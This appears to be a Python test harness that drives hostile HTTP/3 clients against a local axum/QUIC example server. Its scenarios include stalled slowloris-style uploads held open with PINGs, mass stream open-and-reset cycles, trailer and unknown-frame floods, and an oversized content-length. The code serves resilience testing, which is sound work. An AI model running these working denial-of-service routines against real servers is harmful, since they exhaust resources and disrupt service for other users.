#!/usr/bin/env python3
"""Hostile HTTP/3 client scenarios against the axum example / quic serve (loopback only).

Usage: h3_attack.py HOST PORT SCENARIO [args...]
Scenarios:
  stall N_CONN STREAMS SECS   POST /upload, send 1 byte, never finish; PING to stay alive
  bigcl                       POST /upload content-length 10^12, 5 bytes, FIN
  panic N                     GET /panic N times over one connection
  abandon N_CONN ROUNDS       open 16 POST streams, send 1 KiB, RESET_STREAM them, repeat
  afterresp N                 GET /hello/x, then keep sending DATA after the response
  trailers N                  POST /upload with many trailer-like HEADERS frames after DATA
  unknown N_FRAMES            POST /upload interleaving DATA with 16 KiB unknown frames
"""
import asyncio, ssl, sys, time, os
from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import StreamDataReceived, StreamReset, ConnectionTerminated, StopSendingReceived
from aioquic.h3.connection import H3Connection
from aioquic.h3.events import HeadersReceived, DataReceived
from aioquic.buffer import encode_uint_var

class P(QuicConnectionProtocol):
    def __init__(self, *a, **k):
        super().__init__(*a, **k)
        self.h3 = H3Connection(self._quic)
        self.resp = {}
        self.done = {}
        self.stops = 0
        self.resets = 0
        self.closed = None
    def quic_event_received(self, ev):
        if isinstance(ev, StopSendingReceived):
            self.stops += 1
        if isinstance(ev, StreamReset):
            self.resets += 1
        if isinstance(ev, ConnectionTerminated):
            self.closed = (ev.error_code, ev.reason_phrase)
        for e in self.h3.handle_event(ev):
            if isinstance(e, HeadersReceived):
                r = self.resp.setdefault(e.stream_id, {"h": None, "b": b""})
                r["h"] = dict(e.headers)
                if e.stream_ended: self.done[e.stream_id] = True
            elif isinstance(e, DataReceived):
                r = self.resp.setdefault(e.stream_id, {"h": None, "b": b""})
                r["b"] += e.data
                if e.stream_ended: self.done[e.stream_id] = True

def cfg():
    c = QuicConfiguration(is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE,
                          idle_timeout=60.0)
    return c

def hdrs(method, path, extra=()):
    return [(b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"),
            (b":path", path)] + list(extra)

async def wait_done(p, sid, t=10):
    end = time.time() + t
    while sid not in p.done and time.time() < end:
        await asyncio.sleep(0.01)
    return p.resp.get(sid)

async def stall(host, port, nconn, streams, secs):
    async def one(i):
        async with connect(host, port, configuration=cfg(), create_protocol=P) as p:
            ids = []
            for _ in range(streams):
                sid = p._quic.get_next_available_stream_id()
                p.h3.send_headers(sid, hdrs(b"POST", b"/upload", [(b"content-length", b"1000000")]))
                p.h3.send_data(sid, b"x", end_stream=False)
                ids.append(sid)
            p.transmit()
            end = time.time() + secs
            while time.time() < end:
                await p.ping()
                await asyncio.sleep(2)
            return len(ids), p.closed
    rs = await asyncio.gather(*[one(i) for i in range(nconn)], return_exceptions=True)
    print("stall results:", rs[:3], "...", sum(1 for r in rs if isinstance(r, tuple)), "ok")

async def single(host, port, fn):
    async with connect(host, port, configuration=cfg(), create_protocol=P) as p:
        await fn(p)

async def bigcl(p):
    sid = p._quic.get_next_available_stream_id()
    p.h3.send_headers(sid, hdrs(b"POST", b"/upload", [(b"content-length", b"1000000000000")]))
    p.h3.send_data(sid, b"hello", end_stream=True); p.transmit()
    r = await wait_done(p, sid); print("bigcl:", r, "stops", p.stops)

async def panic(p, n, path=b"/panic", want=b"500"):
    t0 = time.time(); ok = 0
    for i in range(n):
        sid = p._quic.get_next_available_stream_id()
        p.h3.send_headers(sid, hdrs(b"GET", path), end_stream=True); p.transmit()
        r = await wait_done(p, sid)
        if r and r["h"] and r["h"].get(b":status") == want: ok += 1
    print(f"GET {path.decode()}: {ok}/{n} answered {want.decode()} in {time.time()-t0:.2f}s closed={p.closed}")
    sid = p._quic.get_next_available_stream_id()
    p.h3.send_headers(sid, hdrs(b"GET", b"/hello/after"), end_stream=True); p.transmit()
    print("after:", await wait_done(p, sid))

async def abandon(host, port, nconn, rounds):
    async def one():
        async with connect(host, port, configuration=cfg(), create_protocol=P) as p:
            for r in range(rounds):
                ids = []
                for _ in range(16):
                    try:
                        sid = p._quic.get_next_available_stream_id()
                        p.h3.send_headers(sid, hdrs(b"POST", b"/upload"))
                        p.h3.send_data(sid, b"y" * 1024, end_stream=False)
                        ids.append(sid)
                    except Exception as e:
                        break
                p.transmit(); await asyncio.sleep(float(os.environ.get("ABANDON_GAP", "0.02")))
                for sid in ids:
                    p._quic.reset_stream(sid, 0x10c)  # H3_REQUEST_CANCELLED
                p.transmit(); await asyncio.sleep(0.02)
            sid = p._quic.get_next_available_stream_id()
            p.h3.send_headers(sid, hdrs(b"GET", b"/hello/alive"), end_stream=True); p.transmit()
            r = await wait_done(p, sid, float(os.environ.get("ABANDON_WAIT", "10")))
            q = p._quic
            open_streams = sum(1 for st in q._streams.values() if st.stream_id % 4 == 0)
            print(f"  conn: closed {p.closed}, responses {len(p.done)} of {rounds*16}, stops {p.stops}, resets {p.resets}, "
                  f"statuses {sorted(set((r['h'] or {}).get(b':status', b'-') for r in p.resp.values()))}, bodies {sorted(set(r['b'][:40] for r in p.resp.values()))[:3]}, "
                  f"peer max bidi {q._remote_max_streams_bidi}, next id {sid}, client-held bidi streams {open_streams}")
            return r and r["b"]
    rs = await asyncio.gather(*[one() for _ in range(nconn)], return_exceptions=True)
    print("abandon:", rs[:4], sum(1 for r in rs if r == b"hello alive"), "/", nconn, "served after")

async def afterresp(p, n):
    sid = p._quic.get_next_available_stream_id()
    p.h3.send_headers(sid, hdrs(b"GET", b"/hello/x")); p.transmit()
    r = await wait_done(p, sid); print("afterresp head:", r)
    sent = 0
    for i in range(n):
        try:
            p.h3.send_data(sid, b"z" * 1000, end_stream=False); sent += 1000
        except Exception as e:
            print("send stopped:", e); break
        if i % 50 == 0:
            p.transmit(); await asyncio.sleep(0.005)
    p.transmit(); await asyncio.sleep(1)
    print("afterresp: sent", sent, "stops", p.stops, "closed", p.closed)

async def trailers(p, n):
    sid = p._quic.get_next_available_stream_id()
    p.h3.send_headers(sid, hdrs(b"POST", b"/upload"))
    p.h3.send_data(sid, b"abc", end_stream=False)
    for i in range(n):
        p.h3.send_headers(sid, [(b"x-t", b"v" * 1000)], end_stream=(i == n - 1))
    p.transmit()
    r = await wait_done(p, sid, 5); print("trailers:", r, "stops", p.stops, "resets", p.resets, "closed", p.closed)

async def unknown(p, n):
    sid = p._quic.get_next_available_stream_id()
    p.h3.send_headers(sid, hdrs(b"POST", b"/upload"))
    p.transmit()
    payload = b"u" * 16000
    for i in range(n):
        frame = encode_uint_var(0x21 + 0x1f * 3) + encode_uint_var(len(payload)) + payload
        p._quic.send_stream_data(sid, frame + encode_uint_var(0) + encode_uint_var(1) + b"d", end_stream=False)
        if i % 4 == 0:
            p.transmit(); await asyncio.sleep(0.01)
    p._quic.send_stream_data(sid, b"", end_stream=True); p.transmit()
    r = await wait_done(p, sid, 30); print("unknown:", r, "stops", p.stops, "resets", p.resets, "closed", p.closed)

def main():
    host, port, sc = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    a = [int(x) for x in sys.argv[4:]]
    if sc == "stall": asyncio.run(stall(host, port, *a))
    elif sc == "abandon": asyncio.run(abandon(host, port, *a))
    elif sc == "bigcl": asyncio.run(single(host, port, bigcl))
    elif sc == "panic": asyncio.run(single(host, port, lambda p: panic(p, a[0])))
    elif sc == "hello": asyncio.run(single(host, port, lambda p: panic(p, a[0], b"/hello/x", b"200")))
    elif sc == "afterresp": asyncio.run(single(host, port, lambda p: afterresp(p, a[0])))
    elif sc == "trailers": asyncio.run(single(host, port, lambda p: trailers(p, a[0])))
    elif sc == "unknown": asyncio.run(single(host, port, lambda p: unknown(p, a[0])))
    else: print(__doc__); sys.exit(2)

main()
